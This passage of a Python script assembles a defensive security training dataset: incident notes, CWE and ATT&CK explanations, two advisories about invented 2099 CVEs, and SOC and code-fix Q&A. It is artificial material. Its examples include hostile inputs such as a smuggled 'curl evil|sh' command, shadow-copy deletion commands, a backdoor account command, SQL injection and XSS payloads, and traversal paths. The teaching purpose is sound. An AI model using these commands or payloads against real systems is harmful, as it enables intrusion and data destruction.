        before temporary files, disk contents, remote logs and archived backups.
        A memory image can reveal injected code, decrypted strings, command
        lines and network artefacts that never touch disk, so rebooting or
        powering off a suspect machine too early destroys valuable evidence. Each
        item should be hashed when acquired, and a chain of custody should record
        who handled it and when. Analysts work on copies, never on the original
        media.
    """)),
    ("incident-response", "ransomware-containment", p("""
        Incident note, ransomware containment. At 03:12 the EDR console raised
        alerts for mass file renames with a new extension on two file servers.
        The on-call analyst isolated both servers through the EDR agent, disabled
        the domain account that launched the process, and blocked the attacker's
        remote management tool at the firewall. Review showed vssadmin delete
        shadows run twenty minutes earlier and an unfamiliar scheduled task
        deployed to forty workstations through group policy. The team removed
        the policy object, reset the krbtgt password twice, and rotated all
        privileged credentials. Backups stored offline were verified as clean
        before restoration began.
    """)),
    ("incident-response", "bec", p("""
        Business email compromise investigations usually start when finance
        reports a payment sent to changed bank details. Responders should first
        ask the bank to recall the transfer, because speed matters more than
        anything else for recovering funds. In the mailbox, look for inbox rules
        that forward or hide messages containing words like invoice or payment,
        OAuth applications granted mail access, new multi-factor methods, and
        sign-ins from unfamiliar locations or hosting providers. Containment means
        revoking sessions and refresh tokens, resetting the password, removing
        malicious rules and applications, and warning partners who received
        messages from the compromised account. Payment changes should always be
        confirmed through a known phone number.
    """)),
    ("incident-response", "leaked-cloud-key", p("""
        A cloud access key published in a public code repository should be
        treated as compromised within minutes, because automated scanners harvest
        such keys almost immediately. Response begins by deactivating the key,
        not deleting it, so that its identifier remains available for the
        investigation, and issuing a replacement to the legitimate workload. The
        cloud audit log then shows every API call made with the key: look for
        new users or access keys, changes to policies, instances launched in
        unusual regions for cryptocurrency mining, and reads from storage
        buckets. Any resources or credentials the attacker created must be
        removed, and billing alerts help detect abuse that was missed.
    """)),
    ("incident-response", "webshell", p("""
        Incident note, web shell on an IIS server. A weekly file integrity scan
        flagged a new file, errorpage.aspx, in a public application directory.
        IIS logs showed POST requests to it from two addresses starting six days
        earlier, each followed by w3wp.exe spawning cmd.exe, which is never
        expected for this application. Commands included whoami, net group
        "domain admins" /domain, and a certutil download of a tunnelling tool.
        The server was removed from the load balancer and imaged. The entry point
        was an unpatched file upload flaw in a third-party component. After
        rebuild, the team blocked child process creation by the web worker.
    """)),
    ("network-intrusion", "port-scanning", p("""
        Port scanning is often the first network-visible sign of reconnaissance.
        A TCP SYN scan sends a SYN to each port and classifies it as open when a
        SYN-ACK returns, closed on a RST, and filtered when nothing comes back;
        the scanner never completes the handshake. In flow data this appears as
        one source contacting many destination ports or many hosts on one port,
        with tiny flows of one or two packets and a high share of resets.
        Internal scans deserve more attention than internet background noise,
        because they suggest a compromised host mapping the network. Slow scans
        spread over hours evade simple thresholds, so detection should aggregate
        over long windows.
    """)),
    ("network-intrusion", "dns-tunnelling", p("""
        DNS tunnelling encodes data in the names being queried, for example
        a base32 chunk of a file as the leftmost label of a domain the attacker
        controls, with responses carrying commands in TXT or NULL records. From
        the network it looks like a client making hundreds or thousands of
        queries to one registered domain, each subdomain unique and long, often
        close to the 63-character label limit, with character distributions far
        more random than human-chosen names. Query volume per domain, label
        length, entropy and the share of TXT records are useful features. Because
        resolvers forward such queries anywhere, only monitoring at the resolver
        or blocking direct outbound DNS reliably exposes them.
    """)),
    ("network-intrusion", "beaconing", p("""
        Command-and-control implants typically beacon: they contact their server
        at a configured interval to ask for work, sometimes with random jitter
        added. Even when the content is encrypted, the timing stands out. A host
        that opens a short HTTPS connection to the same rare domain every sixty
        seconds, day and night, with similar request and response sizes, behaves
        unlike a person browsing. Analysts compute the distribution of intervals
        between connections for each source and destination pair and flag pairs
        with low variance, long duration and few distinct destinations.
        Legitimate software such as update checkers also beacons, so candidates
        are checked against domain age, certificate details and prevalence
        across the fleet.
    """)),
    ("network-intrusion", "ssh-brute-force", p("""
        Internet-facing SSH servers see constant brute-force attempts. In the
        authentication log they appear as many lines like "Failed password for
        invalid user admin from 203.0.113.45 port 51522 ssh2", cycling through
        common usernames such as root, admin, test, oracle and ubuntu. A single
        "Accepted password" line from the same source after a run of failures is
        the critical signal, because it means a guess succeeded. Mitigations are
        disabling password authentication in favour of keys, disallowing direct
        root login, tools such as fail2ban that block repeat offenders, and
        limiting SSH exposure to a VPN or an allowlist of management addresses.
    """)),
    ("network-intrusion", "arp-spoofing", p("""
        ARP spoofing is a local network attack in which a host sends unsolicited
        ARP replies claiming that the gateway's IP address belongs to its own MAC
        address. Victims update their ARP caches and send traffic through the
        attacker, who can read unencrypted data, alter it, or relay NTLM
        authentication attempts. Signs include the gateway's IP address suddenly
        mapping to a different MAC, one MAC address claiming several IP
        addresses, and bursts of gratuitous ARP packets. Switches can enforce
        correct bindings with dynamic ARP inspection backed by DHCP snooping, and
        end-to-end encryption such as TLS and SMB signing removes most of the
        value of the intercepted traffic.
    """)),
    ("secure-coding", "cvss", p("""
        The Common Vulnerability Scoring System version 3.1 summarizes a
        vulnerability's severity in a vector string and a score from 0 to 10. The
        exploitability metrics are attack vector (network, adjacent, local or
        physical), attack complexity, privileges required and user interaction.
        Scope records whether exploitation affects components beyond the
        vulnerable one, and the impact metrics rate the loss of confidentiality,
        integrity and availability as none, low or high. A vector such as
        AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H scores 9.8, critical. The base score
        describes the flaw, not the risk to a particular organization, so
        patching priority should also weigh exposure and evidence of active
        exploitation.
    """)),
    ("secure-coding", "threat-modeling", p("""
        Threat modelling asks, before code is written, what can go wrong with a
        design. A data flow diagram shows processes, data stores, external
        entities and the trust boundaries between them. The STRIDE mnemonic then
        prompts questions for each element: spoofing of identity, tampering with
        data, repudiation of actions, information disclosure, denial of service
        and elevation of privilege. For every credible threat the team records a
        mitigation, such as mutual TLS between services, signed audit logs or
        rate limits, or an explicit decision to accept the risk. The model is
        revisited whenever the architecture changes, and it guides which parts
        of the system receive the most review and testing.
    """)),
]

CORPUS_TEST: list[tuple[str, str, str]] = [
    ("cwe", "CWE-79", p("""
        DOM-based cross-site scripting (a form of CWE-79) never needs the server
        to reflect anything. Client-side code reads a source the attacker
        influences, such as location.hash, document.referrer or a postMessage
        event, and writes it to a sink that interprets HTML or script:
        innerHTML, outerHTML, document.write, jQuery's html() or eval. Because
        the payload may sit in the URL fragment, which browsers do not send to
        the server, server-side filters and logs never see it. Reviews should
        trace every path from such sources to dangerous sinks. Using textContent
        or setAttribute for data, framework bindings that escape by default, and
        Trusted Types, which makes dangerous sinks reject plain strings, close
        most of these paths.
    """)),
    ("cwe", "CWE-89", p("""
        Blind SQL injection (CWE-89) is exploitable even when a page shows no
        query results or database errors. In the boolean-based form the attacker
        appends conditions such as AND SUBSTRING(password,1,1)='a' and watches
        whether the page changes; in the time-based form a condition triggers a
        delay with functions like SLEEP or pg_sleep, and response times leak the
        answer. Automated tools extract whole tables this way in minutes.
        Suppressing error messages therefore hides the symptom, not the flaw.
        Parameterized queries remain the fix, and monitoring for requests with
        SQL keywords, unusual delays or long runs of near-identical queries from
        one client helps catch attempts.
    """)),
    ("cwe", "CWE-22", p("""
        Zip slip is path traversal (CWE-22) during archive extraction. An
        archive can contain an entry named ../../home/app/.ssh/authorized_keys or
        an absolute path, and extraction code that simply joins the destination
        directory with each entry name writes the file wherever the name points.
        Symbolic link entries create a second route: a link to a directory
        outside the destination followed by a file written through that link.
        Safe extraction computes the resolved destination of every entry,
        refuses any that falls outside the target directory, skips or validates
        links, and limits total size and file count to resist decompression
        bombs. Python's tarfile data filter applies many of these rules.
    """)),
    ("cwe", "CWE-416", p("""
        In a use-after-free (CWE-416), the bug is the gap between the end of an
        object's lifetime and the last use of a pointer to it. A common shape is
        an event handler that destroys an object while a caller further up the
        stack still holds a raw pointer and touches it after the handler
        returns. Another is an error path that frees a buffer and then falls
        through to cleanup code that frees or reads it again, which may also
        create a double free (CWE-415). Fuzzing with AddressSanitizer catches
        many of these because it quarantines freed memory and reports any access
        to it with both the allocation and the free stack traces.
    """)),
    ("cwe", "CWE-502", p("""
        In Python, pickle.loads and its relatives are code execution primitives
        rather than data parsers (CWE-502). A pickle stream can name any
        importable callable through the __reduce__ protocol, so a payload that
        calls os.system runs as soon as it is loaded, before the application
        inspects the result. The same applies to yaml.load with the unsafe
        loader, to joblib and torch checkpoint files loaded without restrictions,
        and to shelve databases. Data that crosses a trust boundary, such as
        cookies, cache entries writable by other services, uploaded model files
        or queue messages, should use JSON, safetensors or yaml.safe_load, and
        signed pickles only when the signing key never leaves trusted systems.
    """)),
    ("cwe", "CWE-918", p("""
        DNS rebinding defeats a common but flawed defence against server-side
        request forgery (CWE-918). The application resolves the submitted
        hostname, confirms the address is public, and then passes the URL to an
        HTTP client that resolves the name again. The attacker's DNS server
        answers the first lookup with a public address and the second with
        127.0.0.1 or a cloud metadata address, using a very short time to live.
        The check and the use see different addresses. The fix is to resolve
        once and connect to the validated IP address directly, setting the Host
        header and TLS server name explicitly, and to re-check after every
        redirect or to disable redirects.
    """)),
    ("attack", "T1566.002", p("""
        Spearphishing Link (ATT&CK T1566.002) increasingly targets cloud
        identities rather than endpoints. Instead of a fake login page, a message
        may link to a genuine sign-in prompt for a malicious OAuth application
        that requests permission to read mail and files; once the user consents,
        the attacker holds a token that survives a password reset. Adversary in
        the middle kits proxy the real login page and capture the session cookie
        after multi-factor authentication succeeds. Defenders restrict which
        applications users may consent to, review granted permissions, prefer
        phishing-resistant FIDO2 authentication that binds to the real origin,
        and watch for sign-ins immediately followed by new inbox rules.
    """)),
    ("attack", "T1003.006", p("""
        OS Credential Dumping: DCSync (ATT&CK T1003.006) abuses the directory
        replication protocol. An adversary holding an account with the
        Replicating Directory Changes and Replicating Directory Changes All
        permissions, held by default by domain admins and domain controllers,
        asks a domain controller to replicate password data, and receives the
        NTLM hashes of any user, including krbtgt, without touching the domain
        controller's disk or running code on it. Replication requests that come
        from hosts that are not domain controllers are the key detection signal,
        visible in event 4662 with the replication GUIDs and in network traffic
        using DRSUAPI. Auditing which principals hold replication rights prevents
        quiet abuse.
    """)),
    ("attack", "T1543.003", p("""
        Create or Modify System Process: Windows Service (ATT&CK T1543.003)
        gives an adversary persistence with SYSTEM privileges. A new service is
        installed with sc.exe create, PowerShell New-Service, or directly through
        the registry under HKLM\\SYSTEM\\CurrentControlSet\\Services, and set to
        start automatically; alternatively an existing, rarely used service has
        its binary path changed. The System event log records new services as
        event 7045, and Security event 4697 captures installations when auditing
        is enabled. Service binaries in temporary or user directories, image
        paths that launch cmd.exe or powershell.exe with arguments, and random
        service names deserve investigation.
    """)),
    ("attack", "T1021.001", p("""
        Remote Services: Remote Desktop Protocol (ATT&CK T1021.001) lets an
        adversary with valid credentials interact with a remote host's desktop,
        which is convenient for running tools with graphical interfaces and for
        browsing file shares. Ransomware operators often move through a network
        entirely over RDP once they have domain credentials. Successful RDP
        logons appear as event 4624 with logon type 10, and the
        TerminalServices-LocalSessionManager log records session connections.
        Unusual source-destination pairs, such as a workstation connecting to
        many servers, or admin logons outside working hours stand out.
        Restricting RDP to jump hosts, requiring network level authentication and
        multi-factor authentication, and never exposing it directly to the
        internet reduce the risk.
    """)),
    ("advisory", "CVE-2099-6120", p("""
        CVE-2099-6120: Authentication bypass in Saltmarsh SR-series routers. The
        web management service in Saltmarsh SR-400 and SR-800 firmware before
        2.14 treats any request whose Referer header contains the string
        /setup_wizard as part of the initial setup flow and skips the session
        check. A remote attacker can call configuration endpoints directly,
        change the administrator password and enable remote management. The
        weakness is CWE-287, scored CVSS 3.1 9.8
        (AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H). Firmware 2.14 ties the setup flow
        to a one-time token that expires after the first configuration. Remote
        management should stay disabled on the WAN interface.
    """)),
    ("advisory", "CVE-2099-7034", p("""
        CVE-2099-7034: Out-of-bounds read in the Bramblefield PDF rendering
        library. When parsing cross-reference streams, Bramblefield before 1.22
        trusts the field widths declared in the stream dictionary and reads
        entries without checking them against the decoded stream length. A
        crafted PDF causes reads beyond the heap buffer, which crashes viewers
        and, in server-side conversion services, may leak memory contents into
        the generated output. The weakness is CWE-125, scored CVSS 3.1 7.1
        (AV:L/AC:L/PR:N/UI:R/S:U/C:H/I:N/A:H). Version 1.22 validates the widths
        and the total entry size before decoding. Conversion services should
        also process untrusted documents in an isolated sandbox.
    """)),
    ("incident-response", "phishing-intrusion", p("""
        Incident note, phishing-led intrusion. A user reported opening an
        attached ISO file named Remittance_Advice that contained a shortcut; the
        shortcut ran rundll32 with a DLL from the mounted image. EDR showed the
        DLL injecting into explorer.exe and connecting every ninety seconds to a
        recently registered domain. Responders isolated the laptop, captured
        memory, blocked the domain at the proxy and DNS resolver, and searched
        the fleet for the DLL hash and the domain: two more hosts had resolved it
        but showed no execution. The user's password and sessions were reset.
        Mail rules now quarantine disk image attachments from external senders.
    """)),
    ("network-intrusion", "https-exfiltration", p("""
        Exfiltration over HTTPS hides content but not volume or direction. Most
        workstations download far more than they upload, so a host that suddenly
        sends several gigabytes outbound to a single destination in a few hours
        reverses its normal ratio. Flow records and proxy logs show the bytes out
        per destination; when combined with destination age, category and the
        time of day, they highlight likely exfiltration even without
        decryption. Data staged on a file server and pushed through a cloud
        storage client at night is a common pattern in extortion cases.
        Baselining upload volume per host and alerting on large deviations is
        simple and effective.
    """)),
    ("secure-coding", "command-execution", p("""
        When code must run an external program, pass the program and its
        arguments as a list so that no shell parses them: subprocess.run with a
        list in Python, ProcessBuilder in Java, execFile or spawn without the
        shell option in Node.js, and execve-family calls in C. The argument
        values then reach the program exactly as given, and characters such as
        semicolons or pipes have no special meaning. Still validate values that
        the program interprets itself, such as file names that begin with a dash,
        and use -- to end option parsing. Prefer a library API over shelling out
        when one exists, and run the process with the least privileges that
        work.
    """)),
]


# ---------------------------------------------------------------------------
# instructions: conversations
# ---------------------------------------------------------------------------

SOC_SYSTEM = "You are a security assistant for a SOC team. Answer concisely and precisely."
APPSEC_SYSTEM = "You are an application security engineer reviewing code for a development team."


def qa(topic: str, user: str, answer: str, system: str | None = None) -> dict[str, Any]:
    """A one-question conversation, with an optional system turn."""
    turns = [("user", user), ("assistant", answer)]
    return chat(topic, turns, system)


def chat(topic: str, turns: list[tuple[str, str]], system: str | None = None) -> dict[str, Any]:
    """A conversation record from (role, content) turns."""
    messages = [{"role": "system", "content": system}] if system else []
    messages += [{"role": role, "content": content} for role, content in turns]
    return {"messages": messages, "meta": {"topic": topic}}


def fence(lang: str, code: str) -> str:
    """A markdown code block."""
    return f"```{lang}\n{c(code)}\n```"


INSTRUCTIONS_TRAIN: list[dict[str, Any]] = [
    # -- which CWE is this? ---------------------------------------------------
    qa("cwe-id", p("""
        Which CWE best describes this? A forum stores each user's profile bio
        and later shows it on their public page without escaping, so a bio that
        contains a script tag runs in every visitor's browser.
    """), p("""
        This is CWE-79, Improper Neutralization of Input During Web Page
        Generation, in its stored (persistent) form: the payload is saved once
        and executes for every visitor. The fix is to HTML-encode the bio when
        rendering it, ideally through a template engine that escapes by default,
        and to add a Content Security Policy that blocks inline scripts.
    """)),
    qa("cwe-id", p("""
        What CWE applies here: a C network daemon copies the file name from an
        incoming request into a 64-byte local array using strcpy, and the name
        can be up to 255 bytes long.
    """), p("""
        The best fit is CWE-121, Stack-based Buffer Overflow, which is a child of
        CWE-787 (Out-of-bounds Write); the use of strcpy without a length check
        is also described by CWE-120, Buffer Copy without Checking Size of Input.
        A long name overwrites adjacent stack data, potentially the return
        address. Check the length first and copy with snprintf or memcpy bounded
        by the destination size, rejecting names that do not fit.
    """)),
    qa("cwe-id", p("""
        Our API route GET /api/orders/{id} checks that the caller is logged in,
        but returns any order whose ID is given, including other customers'
        orders. Which CWE is that?
    """), p("""
        That is CWE-639, Authorization Bypass Through User-Controlled Key, often
        called an insecure direct object reference. More generally it is a
        missing object-level authorization check (CWE-862). Authentication
        proves who the caller is, but nothing checks that the order belongs to
        them. Scope the query to the current user, for example WHERE id = ? AND
        customer_id = ?, and return 404 when no row matches.
    """)),
    qa("cwe-id", p("""
        Classify this weakness: the profile page lets users enter an avatar_url,
        and the server downloads the image from that URL and stores it. A tester
        used http://169.254.169.254/latest/meta-data/ and got the response back.
    """), p("""
        This is CWE-918, Server-Side Request Forgery. The server fetches a URL
        chosen by the user, so it can be pointed at internal services and the
        cloud metadata endpoint, which may expose instance credentials. Fix it by
        allowing only https URLs, resolving the host once and rejecting private,
        loopback and link-local addresses, disabling redirects, and enforcing
        IMDSv2 or the provider's equivalent so metadata needs a session token.
    """)),
    qa("cwe-id", p("""
        A router firmware image contains the same root password hash and SSH
        host private key on every device, and users cannot change them. Which
        CWEs apply?
    """), p("""
        The shared root password is CWE-798, Use of Hard-coded Credentials, and
        the shared SSH private key is CWE-321, Use of Hard-coded Cryptographic
        Key. Anyone who extracts one firmware image can log in to, or
        impersonate, every device. The vendor should generate unique credentials
        and host keys on first boot, force a password change during setup, and
        publish an update that removes the fixed account.
    """)),
    qa("cwe-id", p("""
        Which CWE is this: a Flask app stores the user's preferences in a cookie
        as base64-encoded pickle data and calls pickle.loads on it at every
        request.
    """), p("""
        This is CWE-502, Deserialization of Untrusted Data. The cookie is fully
        controlled by the client, and unpickling can invoke arbitrary callables
        through __reduce__, so a crafted cookie gives remote code execution on
        the server. Store preferences as JSON, sign the cookie with the
        framework's session mechanism, and never unpickle data that crossed a
        trust boundary.
    """)),
    qa("cwe-id", p("""
        An image parser reads a 32-bit record count n from the file header and
        calls malloc(n * sizeof(struct record)), then reads n records into the
        buffer. What CWE is that?
    """), p("""
        The root cause is CWE-190, Integer Overflow or Wraparound: a large n makes
        the multiplication wrap, so malloc returns a buffer much smaller than n
        records. The loop then writes past its end, which is CWE-787
        (Out-of-bounds Write), specifically a heap overflow (CWE-122). Reject n
        when n > SIZE_MAX / sizeof(struct record) or above a sane limit, or use
        calloc, which checks the product.
    """)),
    qa("cwe-id", p("""
        In our C server, a connection object is freed when the idle timer fires,
        but a pending read callback that holds a pointer to it can still run
        afterwards and write to its buffer. Which weakness is this?
    """), p("""
        That is CWE-416, Use After Free. Once the timer frees the connection,
        the callback's pointer refers to memory the allocator may already have
        handed to another object, so the write corrupts unrelated data and can be
        exploitable. Cancel pending callbacks before freeing, or use reference
        counting so the object is released only after the last callback drops
        its reference.
    """)),
    qa("cwe-id", p("""
        Password reset tokens in our app are generated with random.randint
        seeded with the current time. What CWE does a reviewer cite?
    """), p("""
        CWE-338, Use of Cryptographically Weak Pseudo-Random Number Generator,
        a child of CWE-330. Python's random module is a Mersenne Twister meant
        for simulations, and seeding it with the time makes tokens guessable: an
        attacker who knows roughly when a reset was requested can enumerate the
        seeds. Use secrets.token_urlsafe(32), store only a hash of the token, and
        expire it after a short time.
    """)),
    qa("cwe-id", p("""
        The login page says "unknown user" for a wrong username and "wrong
        password" for a correct username with a bad password. Is that a CWE?
    """), p("""
        Yes: CWE-204, Observable Response Discrepancy, a child of CWE-203
        (Observable Discrepancy). The different messages let an attacker
        enumerate valid usernames, which makes password spraying and targeted
        phishing easier. Return the same generic message for both cases, keep
        response times similar, and apply the same rule to the password reset
        and registration flows.
    """)),
    qa("cwe-id", p("""
        Which CWE fits a system that stores user passwords as unsalted SHA-1
        hashes?
    """), p("""
        CWE-916, Use of Password Hash With Insufficient Computational Effort,
        and, because there is no salt, CWE-759, Use of a One-Way Hash without a
        Salt. SHA-1 is fast, so GPUs test billions of guesses per second, and
        identical passwords share hashes. Migrate to Argon2id, scrypt or bcrypt
        with a per-user salt, rehashing each password at the user's next
        successful login.
    """)),
    qa("cwe-id", p("""
        Our e-mail validation regex is ^([a-zA-Z0-9]+\\.?)+@example\\.com$ and a
        long string of letters followed by ! pins a CPU core for minutes. Which
        CWE?
    """), p("""
        CWE-1333, Inefficient Regular Expression Complexity, commonly called
        ReDoS; the impact is uncontrolled resource consumption (CWE-400). The
        nested quantifier in ([a-zA-Z0-9]+\\.?)+ lets a backtracking engine try
        exponentially many ways to split the input before failing. Rewrite it
        without nested repetition, for example ^[a-zA-Z0-9]+(\\.[a-zA-Z0-9]+)*@,
        cap the input length, or use a linear-time engine such as RE2.
    """)),
    # -- ATT&CK techniques -----------------------------------------------------
    qa("attack", "Explain ATT&CK technique T1053.005 and one mitigation.", p("""
        T1053.005, Scheduled Task, is the use of the Windows Task Scheduler to
        run malicious code at logon, at start-up or on a timer. Adversaries use
        schtasks.exe or the COM API, often with SYSTEM privileges and names that
        imitate updaters, for persistence, execution and remote execution.
        Detect new tasks with Security event 4698 and the TaskScheduler
        operational log. Mitigation: restrict who can create tasks (only
        administrators by policy), and review tasks whose actions point to
        user-writable folders or script interpreters.
    """), system=SOC_SYSTEM),
    qa("attack", "What is T1003.001 and how do we defend against it?", p("""
        T1003.001 is OS Credential Dumping: LSASS Memory. An adversary with
        administrator or SYSTEM rights reads the memory of lsass.exe, using
        Mimikatz, ProcDump or the comsvcs.dll MiniDump export, to extract NTLM
        hashes, Kerberos tickets and sometimes cleartext credentials for
        lateral movement. Defences: enable Credential Guard and LSA protection
        (RunAsPPL), enable the attack surface reduction rule that blocks
        credential stealing from LSASS, minimize local admin rights, and alert
        on non-system processes opening LSASS.
    """)),
    qa("attack", p("""
        Our identity logs show one IP trying "Spring2024!" against 900 accounts
        in ten minutes. Which ATT&CK technique is that, and what mitigates it?
    """), p("""
        That is T1110.003, Brute Force: Password Spraying: a few common passwords
        tried across many accounts to stay under per-account lockout limits.
        Mitigations: enforce multi-factor authentication for every account,
        block legacy authentication protocols that cannot do MFA, ban common and
        seasonal passwords, and use lockout or risk policies that consider
        failures across accounts from one source. Check whether any of the 900
        attempts succeeded and reset those passwords.
    """)),
    qa("attack", "Describe T1547.001 and how a defender finds it.", p("""
        T1547.001, Registry Run Keys / Startup Folder, is persistence through
        autostart locations: values under HKCU or HKLM
        Software\\Microsoft\\Windows\\CurrentVersion\\Run (and RunOnce), or
        shortcuts in the Startup folder, which Windows launches at logon.
        Defenders monitor writes to these keys (Sysmon event 13, EDR registry
        telemetry), baseline autostarts with Autoruns, and investigate entries
        that point to unsigned executables or scripts in AppData, Temp or
        ProgramData.
    """)),
    qa("attack", p("""
        Why do attackers like PowerShell (T1059.001), and what logging should we
        turn on?
    """), p("""
        PowerShell is present on every Windows host, can download and run code
        in memory, and reaches .NET and Win32 APIs, so adversaries use it for
        download cradles, encoded commands and fileless payloads. Enable script
        block logging (event 4104), which records deobfuscated script content,
        and module logging; keep AMSI active so antivirus scans script content;
        forward the logs centrally. Constrained Language Mode through application
        control, and removing PowerShell 2.0, reduce what an attacker can do.
    """), system=SOC_SYSTEM),
    qa("attack", "Explain Kerberoasting and how to make it fail.", p("""
        Kerberoasting (T1558.003) lets any domain user request service tickets
        for accounts with a service principal name. Part of the ticket is
        encrypted with the service account's password hash, so the attacker
        cracks it offline without failed logons. Make it fail by giving service
        accounts long random passwords (25+ characters) or using group managed
        service accounts, disabling RC4 so tickets use AES, and monitoring event
        4769 for a single user requesting many RC4 tickets.
    """)),
    qa("attack", p("""
        A host ran "vssadmin delete shadows /all /quiet" and "bcdedit /set
        {default} recoveryenabled no". What technique is this?
    """), p("""
        Both map to T1490, Inhibit System Recovery: deleting Volume Shadow Copies
        and disabling Windows recovery so victims cannot roll back files. It is a
        strong ransomware precursor, usually minutes before Data Encrypted for
        Impact (T1486). Treat it as an active incident: isolate the host, find
        the account and process that ran the commands, and check other hosts for
        the same activity. Offline, immutable backups are the mitigation that
        matters when this succeeds.
    """), system=SOC_SYSTEM),
    qa("attack", "What is T1566.001 and what controls reduce it?", p("""
        T1566.001, Spearphishing Attachment, is initial access through a
        malicious file sent by e-mail: Office documents with macros, archives
        containing scripts or shortcuts, ISO or VHD images, and HTML smuggling
        attachments. Controls: block macros in files from the internet, detonate
        attachments in a sandbox, quarantine risky types (ISO, JS, LNK, HTA),
        apply attack surface reduction rules that stop Office spawning child
        processes, and make reporting suspicious mail easy for users.
    """)),
    qa("attack", p("""
        EDR shows rundll32.exe loading a DLL from C:\\Users\\Public with export
        name "Start". Which ATT&CK technique, and is it suspicious?
    """), p("""
        That is T1218.011, System Binary Proxy Execution: Rundll32, where a
        signed Windows binary is used to run malicious DLL code and evade
        application control. It is suspicious: legitimate rundll32 use normally
        loads DLLs from System32 or Program Files, while C:\\Users\\Public is
        world-writable and a common staging folder. Check the DLL's signature and
        hash, its parent process, and any network connections made by rundll32.
    """)),
    qa("attack", p("""
        Map to ATT&CK: an intruder ran net user /add support_tmp P@ssw0rd! and
        net localgroup administrators support_tmp /add on a server.
    """), p("""
        Creating the account is T1136.001, Create Account: Local Account, used
        for persistence; adding it to the local Administrators group is T1098,
        Account Manipulation. Windows logs event 4720 for account creation and
        4732 for the group change. Disable and remove the account, look for
        logons made with it (event 4624), and find how the intruder obtained the
        rights to run these commands.
    """)),
    qa("attack", p("""
        We found rclone.exe and a config with a MEGA remote on a file server.
        What technique is that?
    """), p("""
        This indicates T1567.002, Exfiltration Over Web Service: Exfiltration to
        Cloud Storage. Ransomware groups commonly use rclone to copy staged data
        to cloud storage before encryption. Check the rclone config for remotes
        and credentials, process creation logs for its command lines, and
        firewall or proxy logs for upload volume to the storage provider, so you
        can estimate what left. Block the destination and treat the case as a
        possible data breach.
    """)),
    qa("attack", p("""
        Which ATT&CK techniques match net group "Domain Admins" /domain and net
        user /domain run from a workstation?
    """), p("""
        net group "Domain Admins" /domain is T1069.002, Permission Groups
        Discovery: Domain Groups, and net user /domain is T1087.002, Account
        Discovery: Domain Account. Both are typical early reconnaissance after a
        foothold, as the adversary looks for privileged accounts to target.
        Individually they can be admin activity, so check the user, the parent
        process (for example a web server or Office application) and what ran
        next.
    """)),
    # -- fix this code ---------------------------------------------------------
    qa("code-fix", "How do I fix the SQL injection in this function?\n\n" + fence("python", """
        def find_user(conn, email):
            cur = conn.execute(f"SELECT id, name FROM users WHERE email = '{email}'")
            return cur.fetchone()
    """), p("""
        The e-mail value is formatted into the SQL text, so a quote in it
        changes the query. Pass it as a parameter instead; sqlite3 uses ?
        placeholders and sends the value separately:
    """) + "\n\n" + fence("python", """
        def find_user(conn, email):
            cur = conn.execute("SELECT id, name FROM users WHERE email = ?", (email,))
            return cur.fetchone()
    """) + "\n\n" + "Never build SQL with f-strings, % or + from request data.",
        system=APPSEC_SYSTEM),
    qa("code-fix", "Fix this PHP login query:\n\n" + fence("php", """
        $sql = "SELECT * FROM users WHERE name = '" . $_POST['user'] . "'";
        $result = mysqli_query($db, $sql);
    """), p("""
        Concatenating $_POST['user'] into the query allows SQL injection. Use a
        prepared statement so the value is bound, not parsed:
    """) + "\n\n" + fence("php", """
        $stmt = $pdo->prepare('SELECT id, password_hash FROM users WHERE name = ?');
        $stmt->execute([$_POST['user']]);
        $row = $stmt->fetch();
    """) + "\n\n" + p("""
        Then check the password with password_verify($_POST['password'],
        $row['password_hash']) rather than comparing it in SQL.
    """)),
    qa("code-fix", "Is this Node.js code safe?\n\n" + fence("javascript", """
        app.get('/thumb', (req, res) => {
          exec(`convert ${req.query.file} -resize 100x100 out.png`, () => res.sendFile('/tmp/out.png'));
        });
    """), p("""
        No. exec runs the string through a shell, so file=a.png;curl evil|sh
        executes extra commands (CWE-78). Use execFile with an argument array,
        which runs no shell, and restrict the file to a known directory and
        name pattern:
    """) + "\n\n" + fence("javascript", """
        const name = path.basename(String(req.query.file));
        if (!/^[\\w-]+\\.png$/.test(name)) return res.status(400).end();
        execFile('convert', [path.join(IMAGES, name), '-resize', '100x100', out], cb);
    """)),
    qa("code-fix", "How should I change this to avoid XSS?\n\n" + fence("javascript", """
        const li = document.createElement('li');
        li.innerHTML = comment.author + ': ' + comment.body;
        list.appendChild(li);
    """), p("""
        innerHTML parses the comment as HTML, so a body like <img src=x
        onerror=...> runs script. Set text instead, which the browser never
        interprets as markup:
    """) + "\n\n" + fence("javascript", """
        const li = document.createElement('li');
        li.textContent = `${comment.author}: ${comment.body}`;
        list.appendChild(li);
    """) + "\n\n" + p("""
        If you really need formatted HTML, sanitize it with a library such as
        DOMPurify before inserting it.
    """)),
    qa("code-fix", "What's wrong with this download endpoint?\n\n" + fence("python", """
        @app.route("/files/<path:name>")
        def download(name):
            return send_file(os.path.join("/srv/reports", name))
    """), p("""
        It allows path traversal (CWE-22): name can contain ../ segments, or be
        an absolute path, which os.path.join then uses as is, so
        /files/../../etc/passwd escapes /srv/reports. Use Flask's
        send_from_directory, which rejects paths that leave the directory, or
        resolve the path yourself and check it:
    """) + "\n\n" + fence("python", """
        base = os.path.realpath("/srv/reports")
        target = os.path.realpath(os.path.join(base, name))
        if os.path.commonpath([base, target]) != base:
            abort(404)
        return send_file(target)
    """)),
    qa("code-fix", "Review this C snippet:\n\n" + fence("c", """
        void set_name(struct user *u, const char *input) {
            char buf[32];
            strcpy(buf, input);
            strcpy(u->name, buf);
        }
    """), p("""
        strcpy copies until the NUL terminator, so any input of 32 bytes or more
        overflows buf on the stack (CWE-121), and the second copy may overflow
        u->name too. Bound both copies by the destination size and decide what
        to do with long input:
    """) + "\n\n" + fence("c", """
        int set_name(struct user *u, const char *input) {
            if (strlen(input) >= sizeof(u->name))
                return -1;
            snprintf(u->name, sizeof(u->name), "%s", input);
            return 0;
        }
    """)),
    qa("code-fix", "Fix the injection in this Java DAO method:\n\n" + fence("java", """
        String q = "SELECT * FROM accounts WHERE owner = '" + owner + "'";
        ResultSet rs = conn.createStatement().executeQuery(q);
    """), p("""
        Use a PreparedStatement so the owner value is bound as a parameter and
        cannot alter the query:
    """) + "\n\n" + fence("java", """
        String q = "SELECT id, balance FROM accounts WHERE owner = ?";
        try (PreparedStatement ps = conn.prepareStatement(q)) {
            ps.setString(1, owner);
            try (ResultSet rs = ps.executeQuery()) { ... }
        }
    """) + "\n\n" + p("""
        Also select only the columns you need and let try-with-resources close
        the statement.
    """)),
    qa("code-fix", p("""
